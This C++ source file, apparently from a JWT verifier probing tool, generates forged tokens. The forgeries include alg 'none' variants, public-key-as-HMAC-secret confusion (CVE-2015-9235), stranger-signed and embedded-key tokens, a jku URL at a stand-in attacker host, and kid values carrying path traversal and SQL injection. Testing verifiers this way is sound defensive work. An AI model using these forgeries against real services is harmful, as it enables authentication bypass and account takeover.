// Kinds that change the header, or sign in another way.
#include <array>

#include "jwtdomain/base/base64url.h"
#include "jwtdomain/jwt/jwk.h"
#include "jwtdomain/probe/forge.h"

namespace jwtdomain::probe::detail {
namespace {

constexpr const char* kNowhere = "https://keys.attacker.example/jwks.json"; // nothing is there

Json with(const Forge& f, const char* name, Json value) {
    Json header = f.header;
    header[name] = std::move(value);
    return header;
}
Json without(const Forge& f, const char* name) {
    Json header = f.header;
    header.erase(name);
    return header;
}

Json with_kid(const Forge& f, const char* kid) {
    Json header = with(f, "alg", "HS256");
    header["kid"] = kid;
    return header;
}

Result<std::string> none(const Forge& f, const char* spelling) {
    return Forge::attach(with(f, "alg", spelling), f.claims, "");
}

Result<std::string> signed_with_secret(const Forge& f, const Result<std::string>& secret) {
    if (!secret) return secret;
    return Forge::hmac(*secret, with(f, "alg", "HS256"), f.claims);
}

enum class Form { pem, pem_without_newline, der, thumbprint };

// What a verifier that asks the token for the algorithm takes for its HMAC secret: CVE-2015-9235.
Result<std::string> public_key_as(const Forge& f, Form form) {
    if (!f.control().public_key) return lacks("it needs the public key of the domain");
    const std::string der = f.control().public_key->spki();
    switch (form) {
    case Form::pem: return pem_of("PUBLIC KEY", der);
    case Form::pem_without_newline: {
        std::string out = pem_of("PUBLIC KEY", der);
        out.pop_back();
        return out;
    }
    case Form::der: return der;
    case Form::thumbprint: return f.control().public_key->thumbprint();
    }
    return {};
}

Json jwk_of(const PublicKey& key) {
    Json set = Json::parse(write_jwks({PublicJwk{.key = key, .metadata = {}}}));
    return set["keys"][0];
}

Result<std::string> embedded(const Forge& f, Json header) {
    header["jwk"] = jwk_of(f.stranger().public_key());
    return f.sign_by_stranger(header, f.claims);
}

// RFC 7515 4.1.6: the certificate itself, in base64 and not base64url.
Result<std::string> certified(const Forge& f, Json header) {
    const auto der = f.stranger_certificate();
    if (!der) return tl::unexpected(der.error());
    header["x5c"] = Json::array({base64_encode(*der)});
    return f.sign_by_stranger(header, f.claims);
}

std::string place_of(const std::string& url) { return url.empty() ? kNowhere : url; }

// clang-format off
constexpr std::array kMakers{
    Maker{"key-stranger", [](const Forge& f) { return f.sign_by_stranger(f.header, f.claims); }},
    Maker{"key-stranger-no-kid", [](const Forge& f) { return f.sign_by_stranger(without(f, "kid"), f.claims); }},
    Maker{"key-stranger-own-kid", [](const Forge& f) {
        return f.sign_by_stranger(with(f, "kid", f.stranger().public_key().thumbprint()), f.claims);
    }},
    Maker{"kid-unknown", [](const Forge& f) { return f.sign(with(f, "kid", "jwtdomain-no-such-key"), f.claims); }},
    Maker{"kid-foreign", [](const Forge& f) -> Result<std::string> {
        if (f.control().foreign_kid.empty()) return lacks("no other domain has a key with a kid");
        return f.sign(with(f, "kid", f.control().foreign_kid), f.claims);
    }},
    Maker{"kid-absent", [](const Forge& f) { return f.sign(without(f, "kid"), f.claims); }},
    Maker{"kid-path", [](const Forge& f) -> Result<std::string> { return Forge::hmac("", with_kid(f, "../../../../dev/null"), f.claims); }},
    Maker{"kid-query", [](const Forge& f) -> Result<std::string> {
        return Forge::hmac("jwtdomain", with_kid(f, "x' UNION SELECT 'jwtdomain"), f.claims);
    }},
    Maker{"typ-absent", [](const Forge& f) { return f.sign(without(f, "typ"), f.claims); }},
    Maker{"typ-jwt", [](const Forge& f) -> Result<std::string> {
        if (f.header.value("typ", "") == "JWT") return lacks("the control is of that type itself");
        return f.sign(with(f, "typ", "JWT"), f.claims);
    }},
    Maker{"typ-logout", [](const Forge& f) { return f.sign(with(f, "typ", "logout+jwt"), f.claims); }},
    Maker{"id-token", [](const Forge& f) -> Result<std::string> {
        if (f.header.value("typ", "") == "JWT") return lacks("the control has the type of an ID token");
        Json claims = f.claims;
        claims["nonce"] = "jwtdomain";
        claims["auth_time"] = f.control().now;
        if (!f.control().scope_claim.empty()) claims.erase(f.control().scope_claim);
        return f.sign(with(f, "typ", "JWT"), claims);
    }},
    Maker{"alg-none", [](const Forge& f) { return none(f, "none"); }},
    Maker{"alg-none-no-kid", [](const Forge& f) -> Result<std::string> {
        Json header = without(f, "kid");
        header["alg"] = "none";
        return Forge::attach(header, f.claims, "");
    }},
    Maker{"alg-None", [](const Forge& f) { return none(f, "None"); }},
    Maker{"alg-NONE", [](const Forge& f) { return none(f, "NONE"); }},
    Maker{"alg-nOnE", [](const Forge& f) { return none(f, "nOnE"); }},
    Maker{"alg-empty", [](const Forge& f) { return none(f, ""); }},
    Maker{"alg-none-signed", [](const Forge& f) -> Result<std::string> {
        std::string token = Forge::attach(with(f, "alg", "none"), f.claims, "");
        return token + f.signature;
    }},
    Maker{"alg-absent", [](const Forge& f) { return f.sign(without(f, "alg"), f.claims); }},
    Maker{"alg-other", [](const Forge& f) {
        return f.sign(with(f, "alg", f.algorithm() == Algorithm::ES384 ? "ES256" : "ES384"), f.claims);
    }},
    Maker{"hmac-empty", [](const Forge& f) { return signed_with_secret(f, std::string()); }},
    Maker{"hmac-pem", [](const Forge& f) { return signed_with_secret(f, public_key_as(f, Form::pem)); }},
    Maker{"hmac-pem-bare", [](const Forge& f) { return signed_with_secret(f, public_key_as(f, Form::pem_without_newline)); }},
    Maker{"hmac-der", [](const Forge& f) { return signed_with_secret(f, public_key_as(f, Form::der)); }},
    Maker{"hmac-thumbprint", [](const Forge& f) { return signed_with_secret(f, public_key_as(f, Form::thumbprint)); }},
    Maker{"jwk-embedded", [](const Forge& f) { return embedded(f, f.header); }},
    Maker{"jwk-embedded-no-kid", [](const Forge& f) { return embedded(f, without(f, "kid")); }},
    Maker{"jwk-embedded-own-kid", [](const Forge& f) {
        return embedded(f, with(f, "kid", f.stranger().public_key().thumbprint()));
    }},
    Maker{"x5c", [](const Forge& f) { return certified(f, f.header); }},
    Maker{"x5c-no-kid", [](const Forge& f) { return certified(f, without(f, "kid")); }},
    Maker{"jku", [](const Forge& f) { return f.sign_by_stranger(with(f, "jku", place_of(f.control().jku)), f.claims); }},
    Maker{"x5u", [](const Forge& f) { return f.sign_by_stranger(with(f, "x5u", place_of(f.control().x5u)), f.claims); }},
    Maker{"crit-unknown", [](const Forge& f) {
        Json header = with(f, "crit", Json::array({"jwtdomain"}));
        header["jwtdomain"] = true;
        return f.sign(header, f.claims);
    }},
    Maker{"crit-empty", [](const Forge& f) { return f.sign(with(f, "crit", Json::array()), f.claims); }},
    Maker{"b64-false", [](const Forge& f) -> Result<std::string> {
        Json header = with(f, "b64", false);
        header["crit"] = Json::array({"b64"});
        return f.sign(header, f.claims);
    }},
};
// clang-format on

} // namespace

std::span<const Maker> header_makers() { return kMakers; }

} // namespace jwtdomain::probe::detail
